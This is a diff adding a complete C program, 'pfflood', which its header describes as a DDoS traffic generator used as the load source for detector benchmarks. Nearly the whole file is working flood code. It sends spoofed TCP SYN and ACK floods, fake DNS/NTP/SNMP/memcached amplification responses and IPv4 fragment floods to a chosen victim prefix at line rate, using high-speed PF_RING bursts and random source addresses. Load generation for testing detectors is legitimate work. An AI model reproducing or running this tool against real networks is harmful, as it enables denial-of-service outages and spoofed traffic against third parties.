@@ -0,0 +1,672 @@
+/*
+ *
+ * DDoS traffic generator: the load source of the detector benchmarks.
+ *
+ * Every TX thread (-q, one per TX queue: <device>@<queue>) sends a
+ * weighted mix of attacks (-m) to the victim prefix (-d):
+ *
+ * - syn:  TCP SYN to the target port from random/spoofed sources
+ * - ack:  TCP ACK, random sequence and acknowledgment numbers
+ * - amp:  UDP responses of reflectors, source port taken in the -P list
+ *         and length typical of that service, to random victim ports
+ * - frag: non-first IPv4 fragments (UDP), random offsets
+ *
+ * The packets are built once per attack type (templates) in the burst
+ * buffers. Per packet only the randomized fields are written in place
+ * (addresses, ports, IP id, sequence numbers, fragment offset) and the
+ * checksums updated from the template sums (RFC 1624): no full rebuild,
+ * no checksum pass over the payload. The bursts go out with
+ * pfring_send_burst(), i.e. one doorbell per burst with DNA and, on a
+ * standard PF_RING socket, the mmap()ed TX ring (pfring_set_tx_ring()).
+ *
+ * The rate (-r, over all the threads) is paced on the TSC, calibrated at
+ * startup: a thread late by more than PACE_MAX_LAG_MSEC skips ahead
+ * instead of sending a catch-up burst.
+ *
+ * This program is free software; you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation; either version 2 of the License, or
+ * (at your option) any later version.
+ *
+ */
+
+#define _GNU_SOURCE
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <errno.h>
+#include <time.h>
+#include <signal.h>
+#include <sched.h>
+#include <pthread.h>
+#include <arpa/inet.h>
+
+#include "pfring.h"
+#include "affinity.h"
+
+#define DEFAULT_MIX          "syn:1"
+#define DEFAULT_AMP_PORTS    "53,123,161,1900,11211"
+#define DEFAULT_DST_PORT     80
+#define DEFAULT_BURST        32
+#define DEFAULT_TX_SLOTS     4096
+#define MAX_THREADS          32
+#define MAX_AMP_PORTS        16
+#define MIX_PATTERN          256  /* power of 2 */
+#define MAX_PKT_LEN          1514
+#define PACE_MAX_LAG_MSEC    10
+
+#define ETH_HDR_LEN          14
+#define IP_HDR_LEN           20
+#define TCP_HDR_LEN          20
+#define UDP_HDR_LEN          8
+
+typedef enum {
+  attack_syn = 0,
+  attack_ack,
+  attack_amp,
+  attack_frag,
+  NUM_ATTACKS
+} attack_type;
+
+static const char *attack_name[NUM_ATTACKS] = { "syn", "ack", "amp", "frag" };
+
+/* Frame length of the responses of the well known reflectors, the others get AMP_DEFAULT_LEN */
+static const struct { u_int16_t port, len; } amp_len[] = {
+  { 19, 1024 },    /* chargen */
+  { 53, 1460 },    /* DNS ANY */
+  { 123, 482 },    /* NTP monlist */
+  { 161, 1200 },   /* SNMP GetBulk */
+  { 1900, 350 },   /* SSDP */
+  { 11211, 1400 }, /* memcached */
+  { 0, 0 }
+};
+#define AMP_DEFAULT_LEN  1000
+
+struct template {
+  attack_type type;
+  u_int16_t len;
+  u_int16_t sport;              /* amp: the reflector port */
+  u_int32_t ip_sum, l4_sum;     /* unfolded, randomized fields set to 0 */
+  u_char pkt[MAX_PKT_LEN];
+};
+
+struct prefix {
+  u_int32_t addr, mask;         /* host order, mask 0 = random public address */
+};
+
+struct tx_thread {
+  pthread_t thread;
+  pfring *ring;
+  u_int id;
+  int core;
+  u_int64_t limit;              /* packets, 0 = none */
+  double cycles_per_burst;      /* 0 = no pacing */
+  u_int64_t max_lag;            /* ticks */
+  /* Written by the thread only */
+  volatile u_int64_t pkts, bytes, errors;
+};
+
+static struct template *templates;
+static u_int num_templates, amp_first, num_amp;
+static attack_type pattern[MIX_PATTERN];
+static struct prefix src_prefix, dst_prefix;
+static u_int16_t dst_port = DEFAULT_DST_PORT, burst_len = DEFAULT_BURST;
+static struct tx_thread threads[MAX_THREADS];
+static volatile u_int8_t do_shutdown = 0;
+
+/* *************************************** */
+
+static u_int64_t clock_ns(void) {
+  struct timespec ts;
+
+  clock_gettime(CLOCK_MONOTONIC, &ts);
+  return((u_int64_t)ts.tv_sec * 1000000000ULL + ts.tv_nsec);
+}
+
+static inline u_int64_t ticks(void) {
+#if defined(__i386__) || defined(__x86_64__)
+  u_int32_t a, d;
+
+  __asm__ __volatile__("rdtsc" : "=a" (a), "=d" (d));
+  return(((u_int64_t)d << 32) | a);
+#else
+  return(clock_ns());
+#endif
+}
+
+/* TSC ticks per second */
+static double ticks_hz(void) {
+  u_int64_t t0 = ticks(), n0 = clock_ns(), t1, n1;
+
+  usleep(200000);
+  t1 = ticks(), n1 = clock_ns();
+  return((double)(t1 - t0) * 1000000000.0 / (n1 - n0));
+}
+
+/* *************************************** */
+
+/* xorshift64* */
+static inline u_int64_t rnd(u_int64_t *s) {
+  *s ^= *s >> 12, *s ^= *s << 25, *s ^= *s >> 27;
+  return(*s * 2685821657736338717ULL);
+}
+
+static inline u_int32_t rnd_addr(const struct prefix *p, u_int32_t r) {
+  u_int32_t first;
+
+  if(p->mask != 0)
+    return(p->addr | (r & ~p->mask));
+
+  /* Random unicast, outside 0/8 and 127/8 */
+  first = r >> 24;
+  if((first == 0) || (first == 127) || (first >= 224))
+    r = (r & 0x00FFFFFF) | ((1 + (first % 126)) << 24);
+  return(r);
+}
+
+/* *************************************** */
+
+static u_int32_t sum16(const void *data, u_int len) {
+  const u_int16_t *w = (const u_int16_t *)data;
+  u_int32_t sum = 0;
+
+  for(; len > 1; len -= 2) sum += *w++;
+  if(len) sum += *(const u_int8_t *)w;
+  return(sum);
+}
+
+static inline u_int16_t fold(u_int64_t sum) {
+  while(sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
+  return(~sum & 0xFFFF);
+}
+
+static inline u_int32_t sum32(u_int32_t v /* as stored */) {
+  return((v & 0xFFFF) + (v >> 16));
+}
+
+/* *************************************** */
+
+static void build_template(struct template *t, attack_type type, u_int16_t len, u_int16_t sport,
+			   const u_char *src_mac, const u_char *dst_mac) {
+  u_char *eth = t->pkt, *ip = &t->pkt[ETH_HDR_LEN], *l4 = &ip[IP_HDR_LEN];
+  u_int16_t ip_len = len - ETH_HDR_LEN, l4_len = ip_len - IP_HDR_LEN, v, i;
+  u_int8_t proto = ((type == attack_syn) || (type == attack_ack)) ? IPPROTO_TCP : IPPROTO_UDP;
+  u_int32_t pseudo;
+
+  memset(t, 0, sizeof(*t));
+  t->type = type, t->len = len, t->sport = sport;
+
+  memcpy(eth, dst_mac, 6), memcpy(&eth[6], src_mac, 6);
+  eth[12] = 0x08, eth[13] = 0x00;
+
+  ip[0] = 0x45, ip[8] = 64 /* ttl */, ip[9] = proto;
+  v = htons(ip_len), memcpy(&ip[2], &v, 2);
+  /* saddr, daddr, id, frag (MF and offset): 0 */
+  t->ip_sum = sum16(ip, IP_HDR_LEN);
+
+  for(i = 0; i < l4_len; i++) l4[i] = (u_char)(i * 7);
+
+  if(type == attack_frag) {
+    t->l4_sum = 0; /* payload only: no L4 header to fix */
+    return;
+  }
+
+  if(proto == IPPROTO_TCP) {
+    memset(l4, 0, TCP_HDR_LEN);
+    v = htons(dst_port), memcpy(&l4[2], &v, 2);
+    l4[12] = (TCP_HDR_LEN / 4) << 4;
+    l4[13] = (type == attack_syn) ? 0x02 /* SYN */ : 0x10 /* ACK */;
+    v = htons(65535), memcpy(&l4[14], &v, 2);
+    l4_len = TCP_HDR_LEN; /* the rest is Ethernet padding */
+    v = htons(IP_HDR_LEN + TCP_HDR_LEN), memcpy(&ip[2], &v, 2);
+    t->ip_sum = sum16(ip, IP_HDR_LEN);
+  } else {
+    memset(l4, 0, UDP_HDR_LEN);
+    v = htons(sport), memcpy(&l4[0], &v, 2);
+    v = htons(l4_len), memcpy(&l4[4], &v, 2);
+  }
+
+  /* Pseudo header without the addresses */
+  pseudo = htons(proto) + htons(l4_len);
+  t->l4_sum = sum16(l4, l4_len) + pseudo;
+}
+
+/* *************************************** */
+
+/* Writes the randomized fields of the packet copied from t and fixes its checksums */
+static inline void randomize(u_char *pkt, const struct template *t, u_int64_t *seed) {
+  u_char *ip = &pkt[ETH_HDR_LEN], *l4 = &ip[IP_HDR_LEN];
+  u_int64_t r0 = rnd(seed), r1 = rnd(seed);
+  u_int32_t saddr = htonl(rnd_addr(&src_prefix, (u_int32_t)r0));
+  u_int32_t daddr = htonl(rnd_addr(&dst_prefix, (u_int32_t)(r0 >> 32)));
+  u_int16_t id = (u_int16_t)r1, v, csum;
+  u_int32_t addr_sum = sum32(saddr) + sum32(daddr), ip_sum = t->ip_sum + addr_sum + id;
+  u_int32_t seq, ack;
+
+  memcpy(&ip[4], &id, 2);
+  memcpy(&ip[12], &saddr, 4), memcpy(&ip[16], &daddr, 4);
+
+  switch(t->type) {
+  case attack_syn:
+  case attack_ack:
+    v = htons(1024 + ((r1 >> 16) % 64512));
+    seq = (u_int32_t)(r1 >> 32);
+    ack = (t->type == attack_ack) ? (u_int32_t)rnd(seed) : 0;
+    memcpy(&l4[0], &v, 2), memcpy(&l4[4], &seq, 4), memcpy(&l4[8], &ack, 4);
+    csum = fold((u_int64_t)t->l4_sum + addr_sum + v + sum32(seq) + sum32(ack));
+    memcpy(&l4[16], &csum, 2);
+    break;
+
+  case attack_amp:
+    v = htons(1024 + ((r1 >> 16) % 64512));
+    memcpy(&l4[2], &v, 2);
+    csum = fold((u_int64_t)t->l4_sum + addr_sum + v);
+    if(csum == 0) csum = 0xFFFF;
+    memcpy(&l4[6], &csum, 2);
+    break;
+
+  case attack_frag:
+    /* 8 byte units, past the first fragment and within 64 KB */
+    v = htons(0x2000 | (1 + ((r1 >> 16) % 8000)));
+    memcpy(&ip[6], &v, 2);
+    ip_sum += v;
+    break;
+
+  default:
+    break;
+  }
+
+  csum = fold(ip_sum);
+  memcpy(&ip[10], &csum, 2);
+}
+
+/* *************************************** */
+
+static void* tx_thread(void *arg) {
+  struct tx_thread *t = (struct tx_thread *)arg;
+  u_char (*buffers)[MAX_PKT_LEN];
+  char *pkts[MAX_BURST_LEN];
+  u_int pkts_len[MAX_BURST_LEN], i;
+  int slot_template[MAX_BURST_LEN];
+  u_int64_t seed = ((0x9E3779B97F4A7C15ULL * (t->id + 1)) ^ clock_ns()) | 1, next = ticks(), now;
+  u_int32_t p = 0;
+
+  if((buffers = malloc(MAX_BURST_LEN * MAX_PKT_LEN)) == NULL)
+    return(NULL);
+
+  if(t->core >= 0) {
+    cpu_set_t set;
+
+    CPU_ZERO(&set);
+    CPU_SET(t->core, &set);
+    if(pthread_setaffinity_np(pthread_self(), sizeof(set), &set) != 0)
+      fprintf(stderr, "Unable to bind thread %u to core %d\n", t->id, t->core);
+  }
+
+  for(i = 0; i < MAX_BURST_LEN; i++)
+    pkts[i] = (char *)buffers[i], slot_template[i] = -1;
+
+  while(!do_shutdown && ((t->limit == 0) || (t->pkts < t->limit))) {
+    u_int num = burst_len, sent = 0, bytes = 0;
+    int rc;
+
+    if((t->limit != 0) && ((t->limit - t->pkts) < num))
+      num = t->limit - t->pkts;
+
+    for(i = 0; i < num; i++) {
+      attack_type type = pattern[p++ & (MIX_PATTERN - 1)];
+      int k = (type == attack_amp) ? (int)(amp_first + (rnd(&seed) % num_amp)) : (int)type;
+
+      /* The template is copied only when the slot changes attack */
+      if(slot_template[i] != k) {
+	memcpy(buffers[i], templates[k].pkt, templates[k].len);
+	slot_template[i] = k;
+      }
+
+      randomize(buffers[i], &templates[k], &seed);
+      pkts_len[i] = templates[k].len;
+      bytes += pkts_len[i];
+    }
+
+    if(t->cycles_per_burst > 0) {
+      while((now = ticks()) < next) ;
+
+      /* Late: no catch-up burst */
+      if((now - next) > t->max_lag)
+	next = now;
+      next += (u_int64_t)t->cycles_per_burst;
+    }
+
+    while((sent < num) && !do_shutdown) {
+      if((rc = pfring_send_burst(t->ring, &pkts[sent], &pkts_len[sent], num - sent, 1)) > 0)
+	sent += rc;
+      else
+	t->errors++; /* TX ring full: retry */
+    }
+
+    t->pkts += sent, t->bytes += bytes;
+  }
+
+  free(buffers);
+  return(NULL);
+}
+
+/* *************************************** */
+
+static int parse_prefix(const char *s, struct prefix *p) {
+  char buf[64], *slash;
+  struct in_addr a;
+  int len = 32;
+
+  if(!strcmp(s, "random")) {
+    p->addr = p->mask = 0;
+    return(0);
+  }
+
+  snprintf(buf, sizeof(buf), "%s", s);
+  if((slash = strchr(buf, '/')) != NULL) {
+    *slash = '\0', len = atoi(slash + 1);
+    if((len < 1) || (len > 32)) return(-1);
+  }
+
+  if(inet_pton(AF_INET, buf, &a) != 1) return(-1);
+
+  p->mask = (len == 32) ? 0xFFFFFFFF : ~(0xFFFFFFFF >> len);
+  p->addr = ntohl(a.s_addr) & p->mask;
+  return(0);
+}
+
+/* *************************************** */
+
+/* "attack:weight,..." into the MIX_PATTERN attacks, interleaved: returns -1 if invalid */
+static int parse_mix(char *spec) {
+  u_int32_t weight[NUM_ATTACKS] = { 0 }, credit[NUM_ATTACKS] = { 0 }, total = 0, i, j, w;
+  char *tok, *save = NULL, name[16];
+
+  for(tok = strtok_r(spec, ",", &save); tok != NULL; tok = strtok_r(NULL, ",", &save)) {
+    if(sscanf(tok, "%15[a-z]:%u", name, &w) != 2)
+      return(-1);
+
+    for(j = 0; j < NUM_ATTACKS; j++)
+      if(!strcmp(name, attack_name[j])) break;
+
+    if((j == NUM_ATTACKS) || (w == 0)) return(-1);
+    weight[j] += w, total += w;
+  }
+
+  if(total == 0) return(-1);
+
+  /* Smooth weighted round robin: the attacks are spread, not in runs */
+  for(i = 0; i < MIX_PATTERN; i++) {
+    u_int32_t best = NUM_ATTACKS;
+
+    for(j = 0; j < NUM_ATTACKS; j++) {
+      if(weight[j] == 0) continue;
+      credit[j] += weight[j];
+      if((best == NUM_ATTACKS) || (credit[j] > credit[best])) best = j;
+    }
+
+    credit[best] -= total;
+    pattern[i] = best;
+  }
+
+  return(0);
+}
+
+/* *************************************** */
+
+static int parse_mac(const char *s, u_char *mac) {
+  return((sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx",
+		 &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6) ? 0 : -1);
+}
+
+/* *************************************** */
+
+static void sigproc(int sig) {
+  do_shutdown = 1;
+}
+
+/* *************************************** */
+
+static void print_stats(u_int num_threads, u_int64_t *last_pkts, u_int64_t *last_bytes, double sec, u_int8_t final) {
+  u_int64_t pkts = 0, bytes = 0, errors = 0;
+  u_int i;
+
+  for(i = 0; i < num_threads; i++) {
+    u_int64_t p = threads[i].pkts, b = threads[i].bytes;
+
+    if(num_threads > 1 && !final)
+      printf("  [queue %u] %.2f Mpps\n", i, (double)(p - last_pkts[i]) / sec / 1000000);
+
+    pkts += p - last_pkts[i], bytes += b - last_bytes[i], errors += threads[i].errors;
+    last_pkts[i] = p, last_bytes[i] = b;
+  }
+
+  /* On the wire: preamble, CRC and inter-frame gap */
+  printf("%s%.2f Mpps %.2f Gbps [%llu pkts][%llu TX full]\n", final ? "Total: " : "",
+	 (double)pkts / sec / 1000000, (double)(bytes + pkts * 24) * 8 / sec / 1000000000,
+	 (unsigned long long)pkts, (unsigned long long)errors);
+  fflush(stdout);
+}
+
+/* *************************************** */
+
+static void help(void) {
+  printf("pfflood - DDoS traffic generator\n\n");
+  printf("-h              Print this help\n");
+  printf("-i <device>     Device (with -q > 1, <device>@<queue> is opened for each queue)\n");
+  printf("-d <net/len>    Victim address or prefix\n");
+  printf("-s <net/len>    Spoofed source prefix, or 'random' (default)\n");
+  printf("-m <attack:w,...> Attack mix: syn, ack, amp, frag with weights (default %s)\n", DEFAULT_MIX);
+  printf("-P <port,...>   amp: reflector ports (default %s)\n", DEFAULT_AMP_PORTS);
+  printf("-p <port>       syn/ack: target port (default %u)\n", DEFAULT_DST_PORT);
+  printf("-r <pps>        Rate over all the queues, 0 = line rate (default)\n");
+  printf("-n <pkts>       Packets to send, 0 = until interrupted (default)\n");
+  printf("-q <queues>     TX queues, one thread each (default 1, max %u)\n", MAX_THREADS);
+  printf("-g <cores>      Bind the threads, e.g. 0,2,4-7\n");
+  printf("-b <pkts>       Burst (default %u, max %u)\n", DEFAULT_BURST, MAX_BURST_LEN);
+  printf("-S <mac>        Source MAC (default the device one)\n");
+  printf("-D <mac>        Destination MAC (default 02:00:00:00:00:02)\n");
+}
+
+/* *************************************** */
+
+int main(int argc, char* argv[]) {
+  char *device = NULL, mix[256] = DEFAULT_MIX, ports_arg[256] = DEFAULT_AMP_PORTS, *tok, *save = NULL;
+  char *cores_arg = NULL, name[64];
+  u_char src_mac[6] = { 0 }, dst_mac[6] = { 0x02, 0, 0, 0, 0, 0x02 };
+  u_int8_t src_mac_set = 0, dst_set = 0;
+  u_int16_t amp_ports[MAX_AMP_PORTS];
+  u_int64_t rate = 0, limit = 0, last_pkts[MAX_THREADS] = { 0 }, last_bytes[MAX_THREADS] = { 0 }, start, last;
+  int cores[MAX_THREADS], num_cores = 0;
+  u_int num_threads = 1, i, j;
+  double hz;
+  int c;
+
+  src_prefix.addr = src_prefix.mask = 0;
+
+  while((c = getopt(argc, argv, "hi:d:s:m:P:p:r:n:q:g:b:S:D:")) != -1) {
+    switch(c) {
+    case 'h':
+      help();
+      return(0);
+    case 'i':
+      device = optarg;
+      break;
+    case 'd':
+      if(parse_prefix(optarg, &dst_prefix) != 0 || dst_prefix.mask == 0) {
+	fprintf(stderr, "Invalid victim prefix '%s'\n", optarg);
+	return(-1);
+      }
+      dst_set = 1;
+      break;
+    case 's':
+      if(parse_prefix(optarg, &src_prefix) != 0) {
+	fprintf(stderr, "Invalid source prefix '%s'\n", optarg);
+	return(-1);
+      }
+      break;
+    case 'm':
+      snprintf(mix, sizeof(mix), "%s", optarg);
+      break;
+    case 'P':
+      snprintf(ports_arg, sizeof(ports_arg), "%s", optarg);
+      break;
+    case 'p':
+      dst_port = atoi(optarg);
+      break;
+    case 'r':
+      rate = strtoull(optarg, NULL, 10);
+      break;
+    case 'n':
+      limit = strtoull(optarg, NULL, 10);
+      break;
+    case 'q':
+      num_threads = atoi(optarg);
+      break;
+    case 'g':
+      cores_arg = optarg;
+      break;
+    case 'b':
+      burst_len = atoi(optarg);
+      break;
+    case 'S':
+      if(parse_mac(optarg, src_mac) != 0) {
+	fprintf(stderr, "Invalid MAC '%s'\n", optarg);
+	return(-1);
+      }
+      src_mac_set = 1;
+      break;
+    case 'D':
+      if(parse_mac(optarg, dst_mac) != 0) {
+	fprintf(stderr, "Invalid MAC '%s'\n", optarg);
+	return(-1);
+      }
+      break;
+    default:
+      help();
+      return(-1);
+    }
+  }
+
+  if((device == NULL) || !dst_set) {
+    help();
+    return(-1);
+  }
+
+  if((num_threads == 0) || (num_threads > MAX_THREADS) || (burst_len == 0) || (burst_len > MAX_BURST_LEN)) {
+    fprintf(stderr, "-q must be 1..%u, -b 1..%u\n", MAX_THREADS, MAX_BURST_LEN);
+    return(-1);
+  }
+
+  if(parse_mix(mix) != 0) {
+    fprintf(stderr, "Invalid attack mix '%s'\n", mix);
+    return(-1);
+  }
+
+  for(tok = strtok_r(ports_arg, ",", &save); (tok != NULL) && (num_amp < MAX_AMP_PORTS); tok = strtok_r(NULL, ",", &save))
+    if(atoi(tok) > 0) amp_ports[num_amp++] = atoi(tok);
+
+  if(num_amp == 0) {
+    fprintf(stderr, "No reflector port\n");
+    return(-1);
+  }
+
+  if(cores_arg != NULL && (num_cores = affinity_parse_list(cores_arg, cores, MAX_THREADS)) < 0) {
+    fprintf(stderr, "Invalid core list '%s'\n", cores_arg);
+    return(-1);
+  }
+
+  for(i = 0; i < num_threads; i++) {
+    struct tx_thread *t = &threads[i];
+
+    if(num_threads > 1)
+      snprintf(name, sizeof(name), "%s@%u", device, i);
+    else
+      snprintf(name, sizeof(name), "%s", device);
+
+    if((t->ring = pfring_open(name, MAX_PKT_LEN, 0)) == NULL) {
+      fprintf(stderr, "pfring_open(%s) error [%s]\n", name, strerror(errno));
+      return(-1);
+    }
+
+    pfring_set_application_name(t->ring, "pfflood");
+    pfring_set_socket_mode(t->ring, send_only_mode);
+    /* Batched sendto() through the mmap()ed slots; DNA sockets send from their own TX ring */
+    pfring_set_tx_ring(t->ring, DEFAULT_TX_SLOTS, MAX_PKT_LEN);
+
+    if(pfring_enable_ring(t->ring) != 0) {
+      fprintf(stderr, "Unable to enable the ring on %s\n", name);
+      return(-1);
+    }
+
+    if(!src_mac_set && (i == 0))
+      pfring_get_bound_device_address(t->ring, src_mac);
+
+    t->id = i, t->core = (i < (u_int)num_cores) ? cores[i] : -1;
+    t->limit = limit ? (limit / num_threads + ((i < (limit % num_threads)) ? 1 : 0)) : 0;
+  }
+
+  /* Templates: syn, ack, frag at their attack index, then one amp per reflector port */
+  num_templates = NUM_ATTACKS + num_amp, amp_first = NUM_ATTACKS;
+  if((templates = calloc(num_templates, sizeof(struct template))) == NULL)
+    return(-1);
+
+  build_template(&templates[attack_syn], attack_syn, 60, 0, src_mac, dst_mac);
+  build_template(&templates[attack_ack], attack_ack, 60, 0, src_mac, dst_mac);
+  build_template(&templates[attack_frag], attack_frag, 590, 0, src_mac, dst_mac);
+
+  for(i = 0; i < num_amp; i++) {
+    u_int16_t len = AMP_DEFAULT_LEN;
+
+    for(j = 0; amp_len[j].port != 0; j++)
+      if(amp_len[j].port == amp_ports[i]) len = amp_len[j].len;
+
+    build_template(&templates[amp_first + i], attack_amp, len, amp_ports[i], src_mac, dst_mac);
+  }
+
+  hz = ticks_hz();
+  if(rate > 0)
+    for(i = 0; i < num_threads; i++)
+      threads[i].cycles_per_burst = hz * burst_len * num_threads / rate,
+	threads[i].max_lag = (u_int64_t)(hz * PACE_MAX_LAG_MSEC / 1000);
+
+  signal(SIGINT, sigproc);
+  signal(SIGTERM, sigproc);
+
+  printf("Sending on %s: %u queue(s), %s, %.2f GHz TSC\n", device, num_threads,
+	 rate ? "paced" : "line rate", hz / 1000000000);
+
+  for(i = 0; i < num_threads; i++)
+    pthread_create(&threads[i].thread, NULL, tx_thread, &threads[i]);
+
+  start = last = clock_ns();
+
+  while(!do_shutdown) {
+    u_int64_t now, done = 0;
+
+    sleep(1);
+    now = clock_ns();
+    print_stats(num_threads, last_pkts, last_bytes, (double)(now - last) / 1000000000, 0);
+    last = now;
+
+    for(i = 0; i < num_threads; i++)
+      if((threads[i].limit != 0) && (threads[i].pkts >= threads[i].limit)) done++;
+    if(done == num_threads) break;
+  }
+
+  do_shutdown = 1;
+  for(i = 0; i < num_threads; i++) {
+    pthread_join(threads[i].thread, NULL);
+    last_pkts[i] = last_bytes[i] = 0;
+  }
+
+  print_stats(num_threads, last_pkts, last_bytes, (double)(clock_ns() - start) / 1000000000, 1);
+
+  for(i = 0; i < num_threads; i++)
+    pfring_close(threads[i].ring);
+
+  free(templates);
+  return(0);
+}